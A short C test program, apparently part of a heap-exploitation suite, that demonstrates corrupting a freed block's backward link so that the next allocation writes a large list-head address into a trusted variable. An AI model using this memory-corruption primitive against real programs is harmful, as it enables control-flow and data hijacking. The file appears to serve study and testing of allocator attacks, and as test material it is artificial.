/*
 * metadata: a write to a freed block changes the backward link of its list. The next malloc stores
 * the address of the list's head there: a number that the program trusts becomes huge.
 */
#include "attack.h"

static Word limit[4] = {16};

int main(void) {
  settle(400);
  Word *block = allocate(400);
  allocate(400);
  release((void *)block);
  block[1] = (uint64_t)(uintptr_t)limit - 16; /* bk */
  allocate(400);
  return limit[0] > 0x1000 ? GOAL_REACHED : 0;
}
